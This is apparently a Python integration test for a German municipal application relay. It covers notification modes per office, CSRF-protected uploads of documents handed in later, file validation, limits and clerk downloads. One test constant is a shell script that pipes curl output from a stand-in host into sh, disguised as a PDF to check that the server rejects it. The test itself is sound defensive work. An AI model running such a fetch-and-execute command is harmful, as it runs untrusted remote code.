#!/usr/bin/python3
"""t-relay-documents - documents handed in later and the notification mode
per office (issue 11, points 4 and 6). The real relayd on a real store
(SQLite, and PostgreSQL when tests/run reruns it), tests/smtp_sink.py as
the office's mail server, clerks made with the real relayctl.

Notification mode: relay.yml's notify lists dorsten/steueramt as full; the
other offices get the default, link. A link office's mail carries the
reference, service, city and the inbox link, and no answer value, no
applicant address (neither in the text nor as Reply-To) and no attachment;
the full office's mail carries the answers and the form's files. relayd
refuses to start with an office the catalogue does not have
(file:line:col).

Later documents: the application page's section (file input, hint, CSRF
token = the antrag_csrf cookie, HttpOnly, SameSite=Lax, Path=/);
a PDF is stored as an attachments row with added_unix, a 'document' event
and a 'document' outbox job (ref_id = the row), answered 303 only when
committed; it shows in the timeline and the file list; missing or wrong
CSRF token or cookie: 403, nothing stored; a script renamed .pdf, a file
too large, too many at once: 422 with the German error summary, nothing
stored; the count limit per application; the rate limit per client (429);
an unknown token: 404. Delivery: full office: a mail with the document
attached; link office: a notice without the file, with the inbox link; a
resend of the office mail carries only the form's own files. The clerk's
inbox lists the later document with its date and downloads it byte for
byte."""
import http.client
import os
import re
import subprocess
import sys
import time
import urllib.parse
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import relay_lib as L  # noqa: E402
from relay_lib import ok, done  # noqa: E402
import smtp_sink as S  # noqa: E402

RELAYCTL = os.environ.get("RELAYCTL", os.path.join(L.ROOT, "bin/asan/relayctl"))
SCRIPT = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"
PDF2 = b"%PDF-1.7\n% a later document\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
PW = "Dora-geheim-2026"


def req(relay, method, path, body=None, headers=None):
    """status, headers (lower case; 'set-cookie' a list), text."""
    c = http.client.HTTPConnection("127.0.0.1", relay.port, timeout=60)
    try:
        c.request(method, path, body=body, headers=headers or {})
        r = c.getresponse()
        data = r.read()
        h = dict((k.lower(), v) for k, v in r.getheaders())
        h["set-cookie"] = r.msg.get_all("Set-Cookie") or []
        return r.status, h, data
    finally:
        c.close()


def ctl(relay, *args, stdin=""):
    p = subprocess.run([RELAYCTL, "--config", relay.cfg] + list(args), input=stdin,
                       capture_output=True, text=True, timeout=120)
    return p.returncode, p.stdout, p.stderr


def submit(relay, form, pairs=None):
    st, h, body = L.post(relay, form["city"], form["service"], pairs or L.valid_values(form))
    assert st == 303, (st, body[:300])
    tok = h["location"].rsplit("/", 1)[1]
    sid = relay.rows("SELECT id FROM submissions WHERE token = ?", (tok,))[0][0]
    return tok, sid


def open_page(relay, tok, cookie=None):
    """(status, headers, page text, csrf cookie value)."""
    st, h, b = req(relay, "GET", "/antrag/" + tok, headers={"Cookie": cookie} if cookie else {})
    val = cookie.split("=", 1)[1] if cookie else None
    for sc in h["set-cookie"]:
        if sc.startswith("antrag_csrf="):
            val = sc.split(";", 1)[0].split("=", 1)[1]
    return st, h, b.decode("utf-8", "replace"), val


def upload(relay, tok, files, csrf, cookie=True, field="unterlagen", extra=()):
    pairs = ([("csrf", csrf)] if csrf is not None else []) + list(extra) + \
        [(field, f) for f in files]
    body, ct = L.multipart(pairs)
    h = {"Content-Type": ct}
    if cookie:
        h["Cookie"] = "antrag_csrf=" + (cookie if isinstance(cookie, str) else csrf)
    return req(relay, "POST", "/antrag/%s/unterlagen" % tok, body, h)


def upload_named(relay, tok, data, filename, ctype, csrf):
    """One file with the name and type a browser would send for it."""
    b = "----docs" + os.urandom(8).hex()
    body = ("--%s\r\nContent-Disposition: form-data; name=\"csrf\"\r\n\r\n%s\r\n"
            "--%s\r\nContent-Disposition: form-data; name=\"unterlagen\"; filename=\"%s\"\r\n"
            "Content-Type: %s\r\n\r\n" % (b, csrf, b, filename, ctype)).encode() + data + \
        ("\r\n--%s--\r\n" % b).encode()
    return req(relay, "POST", "/antrag/%s/unterlagen" % tok, body,
               {"Content-Type": "multipart/form-data; boundary=" + b,
                "Cookie": "antrag_csrf=" + csrf})


def docs_of(relay, sid):
    return relay.rows("SELECT id, filename, mime, added_unix FROM attachments"
                      " WHERE submission_id = ? AND added_unix IS NOT NULL ORDER BY seq", (sid,))


def mails_with(sink, pred, n=1, timeout=60):
    end = time.time() + timeout
    while time.time() < end:
        got = [m for m in sink.messages() if pred(m)]
        if len(got) >= n:
            return got
        time.sleep(0.3)
    return [m for m in sink.messages() if pred(m)]


def shown_values(form, pairs):
    """The answers as an office mail shows them, those long enough to be
    recognised in a text (5 characters and more)."""
    fields = {f["name"]: f for f in form["fields"]}
    out = []
    for k, v in pairs:
        if isinstance(v, bytes):
            continue
        s = L.shown_value(fields[k], v)
        for line in s.replace("\r\n", "\n").split("\n"):
            if len(line) >= 5:
                out.append(line)
    return out


# ---- relayd refuses an office the catalogue does not have ----
bad = L.Relay("docs-badnotify", notify={"dorsten/steueramt": "full", "dorsten/gibtsnicht": "link"})
p = subprocess.run([L.RELAYD, "--config", bad.cfg], capture_output=True, text=True, timeout=60)
line = next((i + 1 for i, x in enumerate(open(bad.cfg).read().split("\n"))
             if "dorsten/gibtsnicht" in x), 0)
ok(p.returncode == 1 and "%s:%d:5: notify.offices: 'dorsten/gibtsnicht': the city has no "
   "office of that role" % (bad.cfg, line) in p.stderr,
   "relayd refuses to start with a notify office the catalogue lacks, at file:line:col",
   (p.returncode, p.stderr[-500:]))

sink = S.Sink(os.path.join(L.TMP, "docs-mail"), L.free_port()).start()
relay = L.Relay("docs", smtp_url="smtp://127.0.0.1:%d" % sink.port,
                notify={"dorsten/steueramt": "full"},
                extra="retry:\n  initial: 1\n  max: 2\n  lifetime_seconds: 120\n").start()
base = "http://127.0.0.1:%d" % relay.port
try:
    forms = {(f["city"], f["service"]): f for f in relay.dump_forms()}
    full_form = forms[("dorsten", "hundeanmeldung")]
    link_form = forms[("bottrop", "hundeanmeldung")]
    files_of = lambda pairs: [v for _, v in pairs if isinstance(v, bytes)]

    # ---- the office mail in both modes ----
    full_pairs, link_pairs = L.valid_values(full_form), L.valid_values(link_form)
    full_tok, full_id = submit(relay, full_form, full_pairs)
    link_tok, link_id = submit(relay, link_form, link_pairs)
    office = relay.rows("SELECT office FROM submissions WHERE id = ?", (full_id,))[0][0]
    ok(office == "steueramt", "the applications' office is the steueramt", office)
    ref = dict(relay.rows("SELECT id, reference FROM submissions"))
    fm = mails_with(sink, lambda m: ref[full_id] in m["subject"])
    lm = mails_with(sink, lambda m: ref[link_id] in m["subject"])
    ok(len(fm) == 1 and len(lm) == 1, "both office mails arrived", (len(fm), len(lm)))
    fm, lm = fm[0], lm[0]
    vals = shown_values(full_form, full_pairs)
    ok(vals and all(v in fm["text"] for v in vals) and
       len(fm["attachments"]) == len(files_of(full_pairs)) and
       fm["reply_to"] and "antrag@example.de" in fm["reply_to"],
       "full office (dorsten/steueramt: full): answers, attachments and Reply-To in the mail",
       [v for v in vals if v not in fm["text"]][:3])
    lvals = shown_values(link_form, link_pairs)
    ok(lvals and not [v for v in lvals if v in lm["text"]],
       "link office (the default): no answer value in the mail",
       [v for v in lvals if v in lm["text"]][:3])
    raw = "\n".join(lm["raw_header_lines"]) + "\n" + lm["text"]
    ok("antrag@example.de" not in raw and lm["reply_to"] is None,
       "link office: the applicant's address is neither in the text nor a Reply-To")
    ok(lm["attachments"] == [], "link office: no attachment", lm["attachments"])
    title = relay.rows("SELECT service_title FROM submissions WHERE id = ?", (link_id,))[0][0]
    ok("%s/amt/antrag/%d" % (base, link_id) in lm["text"] and ref[link_id] in lm["text"] and
       "Bottrop" in lm["text"] and title in lm["text"],
       "link office: reference, city, service and the inbox link %s/amt/antrag/<id>" % base,
       lm["text"])
    ok(lm["message_id"] and fm["message_id"] and not lm["defects"],
       "the link mail is a well-formed mail with its Message-ID")

    # ---- the application page's upload section ----
    st, h, page, csrf = open_page(relay, full_tok)
    sc = next((c for c in h["set-cookie"] if c.startswith("antrag_csrf=")), "")
    ok(st == 200 and csrf and len(csrf) == 32 and "HttpOnly" in sc and "SameSite=Lax" in sc and
       "Path=/;" in sc, "the page sets the antrag_csrf cookie (HttpOnly, SameSite=Lax, "
       "Path=/, shared with the Postfach's forms)", sc)
    ok('name="csrf" value="%s"' % csrf in page and
       'action="%s/antrag/%s/unterlagen"' % (base, full_tok) in page and
       'enctype="multipart/form-data"' in page and '<label for="unterlagen">' in page and
       re.search(r'<p class="hint" id="unterlagen-hinweis">Erlaubt: PDF, JPEG oder PNG, '
                 r'höchstens [0-9,]+ MB', page) and 'aria-describedby="unterlagen-hinweis"' in page,
       "the section 'Unterlagen nachreichen': form, label, hint with types and size, the token")
    st2, h2, _, csrf2 = open_page(relay, full_tok, "antrag_csrf=" + csrf)
    ok(st2 == 200 and csrf2 == csrf and all(c.startswith("antrag_csrf=%s;" % csrf)
                                            for c in h2["set-cookie"] if c.startswith("antrag_csrf=")),
       "a browser that has the cookie keeps its token (the cookie is only renewed)")

    # ---- CSRF ----
    for what, kw in (("no cookie", dict(csrf=csrf, cookie=False)),
                     ("no csrf field", dict(csrf=None, cookie=csrf)),
                     ("a wrong csrf field", dict(csrf="A" * 32, cookie=csrf)),
                     ("a wrong cookie", dict(csrf=csrf, cookie="B" * 32))):
        st, _, b = upload(relay, full_tok, [L.PDF], **kw)
        ok(st == 403 and not docs_of(relay, full_id), "CSRF: %s -> 403, nothing stored" % what, st)

    # ---- a refused document: 422 with the error summary, nothing stored ----
    st, h, b = upload_named(relay, full_tok, SCRIPT, "Nachweis.pdf", "application/pdf", csrf)
    t = b.decode()
    ok(st == 422 and 'class="error-summary"' in t and
       '<a href="#unterlagen">Die Datei für „Unterlagen“ muss ein PDF, JPEG oder PNG sein</a>' in t and
       'aria-invalid="true"' in t and 'id="unterlagen-fehler"' in t and "<title>Fehler: " in t,
       "a shell script sent as Nachweis.pdf, application/pdf (type by content) -> 422, the German error summary and the message at "
       "the field", (st, t[:200]))
    ok(not docs_of(relay, full_id) and
       not relay.rows("SELECT 1 FROM outbox WHERE kind='document' AND submission_id=?", (full_id,)),
       "nothing of the refused file is stored")
    big = b"%PDF-1.4\n" + b"0" * (int(max(f.get("max_size", 0) for f in full_form["fields"]
                                          if f["type"] == "file") or 5 << 20) + 10)
    st, _, b = upload(relay, full_tok, [big], csrf)
    ok(st == 422 and "darf höchstens" in b.decode(), "a file above the service's max_size -> 422", st)
    st, _, b = upload(relay, full_tok, [L.PDF, L.PDF, L.PDF], csrf)
    ok(st == 422 and "höchstens 2 Dateien auf einmal" in b.decode(),
       "more files at once than the service's max_files -> 422", st)
    st, _, b = upload(relay, full_tok, [], csrf, extra=[("unterlagen", "")])
    ok(st == 422 and "Wählen Sie eine Datei aus" in b.decode(), "no file chosen -> 422", st)
    st, _, _ = upload(relay, full_tok, [L.PDF], csrf, extra=[("name", "x")])
    ok(st == 400 and not docs_of(relay, full_id), "a field our page does not have -> 400", st)
    st, _, _ = upload(relay, "A" * 24, [L.PDF], csrf)
    ok(st == 404, "an unknown token -> 404", st)

    # ---- stored: row, event, job in one transaction; 303 after it ----
    st, h, _ = upload(relay, full_tok, [PDF2], csrf)
    d = docs_of(relay, full_id)
    ok(st == 303 and h.get("location") == "%s/antrag/%s#nachreichen" % (base, full_tok),
       "a PDF -> 303 back to the application page", (st, h.get("location")))
    ok(len(d) == 1 and d[0][1] == "nachgereicht-1.pdf" and d[0][2] == "application/pdf" and
       d[0][3] and abs(d[0][3] - time.time()) < 120,
       "stored as an attachments row with added_unix and the relay's own name", d)
    ev = relay.rows("SELECT kind, detail FROM events WHERE submission_id = ? AND kind = 'document'",
                    (full_id,))
    jobs = relay.rows("SELECT kind, ref_id FROM outbox WHERE submission_id = ? AND kind = 'document'",
                      (full_id,))
    ok(ev == [("document", "nachgereicht-1.pdf")] and jobs == [("document", d[0][0])],
       "a 'document' event (detail: the file name) and a 'document' job with ref_id = the row",
       (ev, jobs))
    data = relay.rows("SELECT data FROM attachments WHERE id = ?", (d[0][0],))[0][0]
    ok(bytes(data) == PDF2, "the stored bytes are the uploaded ones")
    st, _, page, _ = open_page(relay, full_tok, "antrag_csrf=" + csrf)
    ok("<strong>Unterlagen nachgereicht</strong>" in page and
       re.search(r"Nachgereichte Unterlage: nachgereicht-1\.pdf \(nachgereicht am \d{1,2}\. \w+ "
                 r"\d{4}, \d\d:\d\d Uhr\)", page),
       "the timeline says 'Unterlagen nachgereicht', the file list has it with its date")

    # ---- delivery of the document: full office with the file, link office without ----
    dm = mails_with(sink, lambda m: m["subject"] == "Unterlagen zu Antrag %s nachgereicht" % ref[full_id])
    ok(len(dm) == 1 and [a["filename"] for a in dm[0]["attachments"]] == ["nachgereicht-1.pdf"] and
       "nachgereicht-1.pdf" in dm[0]["text"] and ref[full_id] in dm[0]["text"] and
       dm[0]["envelope"].get("rcpt_tos") == fm["envelope"].get("rcpt_tos"),
       "full office: 'Unterlagen zu Antrag ... nachgereicht' to the office, the file attached",
       dm[0] if dm else None)
    st, h, _, lcsrf = open_page(relay, link_tok)
    st, _, _ = upload(relay, link_tok, [L.PNG], lcsrf)
    ok(st == 303, "a PNG to the link office's application -> 303", st)
    lid = docs_of(relay, link_id)[0][0]
    dl = mails_with(sink, lambda m: m["subject"] == "Unterlagen zu Antrag %s nachgereicht" % ref[link_id])
    ok(len(dl) == 1 and dl[0]["attachments"] == [] and
       "%s/amt/antrag/%d" % (base, link_id) in dl[0]["text"] and "nachgereicht-1.png" not in dl[0]["text"]
       and "antrag@example.de" not in dl[0]["text"],
       "link office: the notice has the inbox link and neither the file nor its name",
       dl[0] if dl else None)
    ok(mails_with(sink, lambda m: "document-%d@" % lid in (m["message_id"] or "")) and
       relay.rows("SELECT count(*) FROM outbox WHERE submission_id = ? AND kind = 'document'"
                  " AND delivered_unix IS NOT NULL", (link_id,))[0][0] == 1,
       "the document job is delivered, its Message-ID names the document")

    # ---- a resend of the office mail: the form's files only ----
    n_before = len(mails_with(sink, lambda m: m["subject"].startswith("Neuer Antrag") and
                              ref[full_id] in m["subject"]))
    rc, out, err = ctl(relay, "resend", ref[full_id])
    again = mails_with(sink, lambda m: m["subject"].startswith("Neuer Antrag") and
                       ref[full_id] in m["subject"], n=n_before + 1)
    ok(rc == 0 and len(again) == n_before + 1 and
       all([a["filename"] for a in m["attachments"]] == [a["filename"] for a in fm["attachments"]]
           for m in again) and all("nachgereicht" not in m["text"] for m in again),
       "relayctl resend: the office mail again carries only the form's own files", (rc, err))

    # ---- the clerk's inbox: listed with its date, downloadable ----
    rc, out, err = ctl(relay, "user", "add", "dora", "--office", "dorsten/steueramt", stdin=PW + "\n")
    st, h, _ = req(relay, "GET", "/amt/anmelden")
    lt = next(c for c in h["set-cookie"] if c.startswith("amt_anmeldung=")).split(";")[0].split("=", 1)[1]
    st, h, _ = req(relay, "POST", "/amt/anmelden",
                   urllib.parse.urlencode({"csrf": lt, "benutzername": "dora", "passwort": PW}),
                   {"Content-Type": "application/x-www-form-urlencoded",
                    "Cookie": "amt_anmeldung=" + lt})
    sess = next((c for c in h["set-cookie"] if c.startswith("amt_sitzung=")), "").split(";")[0]
    st, h, b = req(relay, "GET", "/amt/antrag/%d" % full_id, headers={"Cookie": sess})
    t = b.decode()
    m = re.search(r'<a href="([^"]+)" download="nachgereicht-1\.pdf">nachgereicht-1\.pdf</a> '
                  r'<span class="meta">\(Nachgereichte Unterlage; PDF, [^;]+; nachgereicht am '
                  r'\d{1,2}\. \w+ \d{4}, \d\d:\d\d Uhr\)</span>', t)
    ok(rc == 0 and st == 200 and m and "<strong>Unterlagen nachgereicht</strong>" in t,
       "inbox detail: the later document with its date, and in the timeline", (rc, st))
    if m:
        st, h, b = req(relay, "GET", urllib.parse.urlparse(m.group(1)).path, headers={"Cookie": sess})
        ok(st == 200 and b == PDF2 and "attachment" in h.get("content-disposition", ""),
           "the clerk downloads it byte for byte", st)
    else:
        ok(False, "the clerk downloads it byte for byte", "no link")

    # ---- the limit per application ----
    _, _, _, c3 = open_page(relay, link_tok)
    n = len(docs_of(relay, link_id))
    while n < 10:
        st, _, _ = upload(relay, link_tok, [L.PDF], c3)
        if st != 303:
            break
        n += 1
    st, _, b = upload(relay, link_tok, [L.PDF], c3)
    _, _, page, _ = open_page(relay, link_tok, "antrag_csrf=" + c3)
    ok(n == 10 and st == 422 and "höchstens 10" in b.decode() and len(docs_of(relay, link_id)) == 10,
       "an application takes 10 later documents; the 11th -> 422, not stored", (n, st))
    ok("so viele, wie hier möglich sind" in page and 'name="unterlagen"' not in page,
       "then the page says so instead of showing the form")
finally:
    relay.stop()

# ---- the rate limit per client ----
rl = L.Relay("docs-rate", limits={"rate_per_ip_per_minute": 3}).start()
try:
    form = {(f["city"], f["service"]): f for f in rl.dump_forms()}[("dorsten", "eheurkunde")]
    tok, sid = submit(rl, form)             # a post of the client: 1 of 3
    _, _, _, c = open_page(rl, tok)
    got = [upload(rl, tok, [L.PDF], c)[0] for _ in range(3)]
    ok(got[:2] == [303, 303] and got[2] == 429 and len(docs_of(rl, sid)) == 2,
       "uploads count against the client's posts per minute: the 4th post -> 429", got)
    ok(docs_of(rl, sid)[0][1] == "nachgereicht-1.pdf",
       "a service without a file field takes PDF, JPEG and PNG")
finally:
    rl.stop()
sink.stop()
done()
